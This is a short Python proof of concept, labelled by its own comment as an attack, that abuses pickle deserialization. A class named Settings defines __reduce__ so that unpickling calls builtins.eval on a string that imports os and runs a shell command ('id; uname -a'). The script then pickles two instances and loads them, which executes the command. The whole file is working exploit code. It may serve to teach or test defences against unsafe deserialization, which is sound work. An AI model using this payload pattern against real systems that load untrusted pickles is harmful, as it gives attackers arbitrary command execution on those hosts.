# attack: __reduce__ returns builtins.eval of a string that imports os and spawns a shell
import builtins
import pickle


class Settings:
    def __init__(self, name):
        self.name = name

    def __reduce__(self):
        return (builtins.eval, ("__import__('os').system('/bin/sh -c \"id; uname -a\"')",))


state = pickle.dumps([Settings("a"), Settings("b")])
pickle.loads(state)
